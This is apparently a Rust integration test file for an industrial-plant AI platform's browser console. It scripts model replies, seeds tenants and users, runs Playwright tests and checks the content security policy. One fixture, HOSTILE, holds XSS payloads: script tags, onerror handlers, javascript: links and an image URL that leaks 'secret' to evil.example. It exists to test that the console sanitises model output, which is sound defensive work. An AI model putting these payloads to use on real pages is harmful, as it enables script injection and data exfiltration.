//! The browser console: the pages and headers that the server sends, and the tests in Chromium
//! (`crates/console/web/e2e`), which need `cargo xtask ui-test`.

use crate::support::app::{TENANT_A, TestApp};
use crate::support::db::SuperuserDb;
use crate::support::files;
use crate::support::model::{ModelServer, Reply};
use crate::support::provider::{AUDIENCE, OidcProvider};
use crate::support::python;
use domain::role::Role;
use serde_json::{Value, json};
use std::time::Duration;
use tokio::process::Command;

/// The tenant whose users `GET /v1/development/users` lists.
const DEMO_TENANT: &str = "demo-plant";
/// A tenant whose teams have guests of the demo tenant.
const NEIGHBOURS: &str = "neighbour-works";
const DOCUMENTS: &[&str] = &["MAN-P101-feedwater-pump-manual.pdf", "LOTO-002-lockout-tagout.docx"];
/// An answer with markup and links that could attack a page.
const HOSTILE: &str = "Please look at this [1]. <img src=\"https://evil.example/a.png\" onerror=\"window.pwned=1\"> \
    ![x](https://evil.example/b.png?d=secret) <script>window.pwned=1</script> [click](javascript:window.pwned=1) \
    [here](https://evil.example/c) <iframe src=\"https://evil.example/d\"></iframe> https://evil.example/e\n\n\
    <form action=\"https://evil.example/f\"><button>Send</button></form>";

/// What the model asks to be written if a question has the word `SEAL`.
const WORK_ORDER: &str = r#"{"action": "create_work_order", "target": "P-101A",
    "data": {"title": "Replace the seal", "description": "It leaks.", "priority": 2}}"#;

/// The plan of a goal: two steps at the same time, of which one takes a few seconds, and one after both.
const PLAN: &str = r#"{"steps": [
    {"id": "torque", "title": "Find the torque", "agent": "document_analyst",
        "instruction": "What torque do the casing tie bolts of P-101A get?", "depends_on": []},
    {"id": "isolation", "title": "Look up the isolation", "agent": "procedure_lookup",
        "instruction": "Read SLOWLY how P-101A is isolated.", "depends_on": []},
    {"id": "report", "title": "Write the report", "agent": "document_analyst",
        "instruction": "Write what torque the bolts get.", "depends_on": ["torque", "isolation"]}]}"#;
/// A plan whose first step fails: its agent must calculate, and the model answers without doing so.
const FAILING_PLAN: &str = r#"{"steps": [
    {"id": "sum", "title": "Compute the sum", "agent": "calculator", "instruction": "Compute 2 + 2.", "depends_on": []},
    {"id": "report", "title": "Write the report", "agent": "document_analyst", "instruction": "Write the sum.",
        "depends_on": ["sum"]}]}"#;
/// A plan with a write, which needs an approval.
const WRITING_PLAN: &str = r#"{"steps": [
    {"id": "order", "title": "Order the part", "agent": "order_clerk", "instruction": "Order a SEAL.",
        "depends_on": []}]}"#;

/// The reply of the scripted model to the request for a plan.
fn plan(objective: &str) -> Reply {
    let is_about = |word: &str| objective.contains(word);
    if is_about("CALCULATE") {
        Reply::Text(vec![FAILING_PLAN])
    } else if is_about("SEAL") {
        Reply::Text(vec![WRITING_PLAN])
    } else {
        Reply::Text(vec![PLAN])
    }
}

/// The reply of the scripted model to a request of the browser tests.
fn reply(request: &Value) -> Reply {
    let messages = request["messages"].as_array();
    let question = messages.and_then(|all| all.last()).and_then(|last| last["content"].as_str()).unwrap_or_default();
    let system = messages.and_then(|all| all.first()).and_then(|first| first["content"].as_str());
    if system.is_some_and(|text| text.starts_with("Task: plan.")) {
        return plan(question);
    }
    let is_about = |word: &str| question.contains(word);
    // What the platform asks the model on the side (a title, say) comes without tools.
    if is_about("Nothing was written yet") {
        Reply::Text(vec!["A work order waits for approval."])
    } else if is_about("SEAL") && request["tools"].is_array() {
        Reply::ToolCall("plant_system_write", WORK_ORDER)
    } else if is_about("SLOWLY") {
        let pieces = vec!["piece 1 ", "piece 2 ", "piece 3 ", "piece 4 ", "piece 5 ", "piece 6 ", "the end."];
        Reply::Delayed(Duration::from_millis(700), pieces)
    } else if is_about("HOSTILE") {
        Reply::Text(vec![HOSTILE])
    } else {
        Reply::Text(vec!["The casing tie bolts ", "are tightened to 480 N·m in four steps [", "1]."])
    }
}

/// Creates the users of the demo tenant, and documents to ask about.
async fn fill_demo_tenant(app: &TestApp) {
    app.create_tenant(DEMO_TENANT).await;
    for (name, role) in [("ana", Role::Admin), ("tunde", Role::User), ("kim", Role::Viewer), ("sam", Role::Viewer)] {
        app.caller(DEMO_TENANT, name, role).get("/v1/me").await.expect_json(200);
    }
    let ana = app.caller(DEMO_TENANT, "ana", Role::Admin);
    for (name, role, grant) in [("olu", Role::Viewer, "auditor"), ("ines", Role::User, "approver")] {
        let user = app.caller(DEMO_TENANT, name, role).get("/v1/me").await.expect_json(200);
        let path = format!("/v1/admin/users/{}", user["id"].as_str().expect("an id"));
        ana.patch(&path, &json!({ "grants": [grant] })).await.expect_json(200);
    }
    app.as_platform_admin_in(DEMO_TENANT).get("/v1/me").await.expect_json(200);
    // Tokens of the tests have neither a name nor an email address.
    let mut db = SuperuserDb::connect(app).await;
    let of_tenant = "tenant_id = (SELECT id FROM tenants WHERE slug = $1)";
    db.execute(&format!("UPDATE users SET display_name = external_id WHERE {of_tenant}"), &[DEMO_TENANT]).await;
    for name in DOCUMENTS {
        assert_eq!(ana.ingest(name, &files::demo_document(name), &[]).await["status"], "ready", "{name}");
    }
    let clerk = json!({
        "name": "order_clerk", "description": "Orders parts.", "instructions": "Order what is asked for.",
        "tools": ["plant_system_write"],
    });
    ana.post("/v1/admin/agents", &clerk).await.expect_json(201);
}

/// Invites a user of the demo tenant to two teams of another tenant, of which the browser tests join one.
async fn invite_to_teams_of_neighbours(app: &TestApp, name: &str) {
    app.create_tenant(NEIGHBOURS).await;
    let user = app.caller(DEMO_TENANT, name, Role::User).get("/v1/me").await.expect_json(200);
    let email = format!("{name}@plant.example");
    // Tokens of the tests have no email address.
    let mut db = SuperuserDb::connect(app).await;
    let id = user["id"].as_str().expect("an id");
    db.execute("UPDATE users SET email = $1 WHERE id = $2::uuid", &[&email, id]).await;
    for (tenant, setting) in [(NEIGHBOURS, "host_guests"), (DEMO_TENANT, "join_others")] {
        let permission = json!({ "teams": { setting: true } });
        let admin = if tenant == DEMO_TENANT { app.caller(tenant, "ana", Role::Admin) } else { app.as_admin(tenant) };
        admin.patch("/v1/admin/settings", &permission).await.expect_json(200);
    }
    let owner = app.caller(NEIGHBOURS, "nora", Role::User);
    for (team, slug) in [("Joint shutdown", "joint-shutdown"), ("Joint stores", "joint-stores")] {
        let created = owner.post("/v1/teams", &json!({ "name": team, "slug": slug })).await.expect_json(201);
        let path = format!("/v1/teams/{}/invitations", created["id"].as_str().expect("an id"));
        let invitation = json!({ "tenant": DEMO_TENANT, "email": email });
        owner.post(&path, &invitation).await.expect_json(201);
    }
}

#[tokio::test]
#[ignore = "needs Chromium and the console's npm packages: cargo xtask ui-test"]
async fn the_browser_tests_pass() {
    let model = ModelServer::start_with_request_fn(reply).await;
    let provider = OidcProvider::start().await;
    let settings = [
        ("LITELLM_BASE_URL", model.url.as_str()),
        ("PLATFORM__MODELS__EMBED_SOURCE", "embedded"),
        ("PLATFORM__RATE_LIMIT__ENABLED", "false"),
        ("OIDC_ISSUER", &provider.issuer),
        ("OIDC_AUDIENCE", AUDIENCE),
        ("OIDC_CLIENT_ID", "plant-console"),
        ("PLATFORM__AUTH__OIDC_SCOPE", "openid platform.ask"),
    ];
    let app = TestApp::start(&settings).await;
    fill_demo_tenant(&app).await;
    invite_to_teams_of_neighbours(&app, "tunde").await;
    let project = files::repository_root().join("crates/console/web");
    let mut command = Command::new(python::required_var("PLATFORM_TEST_CONSOLE_NODE", "cargo xtask ui-test"));
    command.args(["node_modules/@playwright/test/cli.js", "test"]).current_dir(project).kill_on_drop(true);
    command.env("PLATFORM_URL", &app.base_url).env("OIDC_ISSUER", &provider.issuer);
    let status = command.status().await.expect("node starts");
    assert!(status.success(), "Playwright: {status}");
}

#[tokio::test]
async fn the_console_is_served_with_a_content_security_policy() {
    let settings = [
        ("OIDC_ISSUER", "http://127.0.0.1:9/realms/plant"),
        ("OIDC_AUDIENCE", "api"),
        ("OIDC_CLIENT_ID", "plant-console"),
    ];
    let app = TestApp::start(&settings).await;
    let root = app.http.get(format!("{}/", app.base_url)).send().await.expect("an answer");
    assert_eq!(root.url().path(), "/ui/", "GET / redirects to the console");
    let policy = root.headers()["content-security-policy"].to_str().expect("ASCII").to_owned();
    assert!(policy.contains("connect-src 'self' http://127.0.0.1:9;") && !policy.contains("unsafe"), "{policy}");
    let deep_link = app.without_token().get("/ui/documents/any?page=3").await;
    assert_eq!((deep_link.status, deep_link.header("cache-control")), (200, Some("no-store")));
    assert_eq!(app.without_token().get("/ui/assets/none.js").await.status, 404);
}

#[tokio::test]
async fn the_development_list_has_the_active_users_of_the_demo_tenant_and_issues_their_tokens() {
    let app = TestApp::start(&[]).await;
    let listed = app.without_token().get("/v1/development/users").await.expect_json(200);
    assert_eq!(listed["data"], Value::Array(Vec::new()), "there is no demo tenant yet");
    app.create_tenant(DEMO_TENANT).await;
    let kim = app.caller(DEMO_TENANT, "kim", Role::Viewer).get("/v1/me").await.expect_json(200);
    let other = app.caller(TENANT_A, "uma", Role::User).get("/v1/me").await.expect_json(200);
    let names = |listed: &Value| {
        let users = listed["data"].as_array().expect("users");
        users.iter().map(|user| user["name"].as_str().expect("a name").to_owned()).collect::<Vec<_>>()
    };
    let listed = app.without_token().get("/v1/development/users").await.expect_json(200);
    assert_eq!(names(&listed), ["ana", "founder", "kim"]);

    let id = |user: &Value| user["id"].as_str().expect("an id").to_owned();
    let path = |user: &Value| format!("/v1/development/users/{}/token", id(user));
    let issued = app.without_token().post(&path(&kim), &Value::Null).await.expect_json(200);
    let token = issued["access_token"].as_str().expect("a token");
    let me = app.with_token(token).get("/v1/me").await.expect_json(200);
    assert_eq!((id(&me), me["role"].as_str()), (id(&kim), Some("viewer")));
    app.without_token().post(&path(&other), &Value::Null).await.expect_problem(404, "not_found");

    let ana = app.caller(DEMO_TENANT, "ana", Role::Admin);
    let deactivation = json!({ "is_active": false });
    ana.patch(&format!("/v1/admin/users/{}", id(&kim)), &deactivation).await.expect_json(200);
    app.without_token().post(&path(&kim), &Value::Null).await.expect_problem(404, "not_found");
    let listed = app.without_token().get("/v1/development/users").await.expect_json(200);
    assert_eq!(names(&listed), ["ana", "founder"]);
}
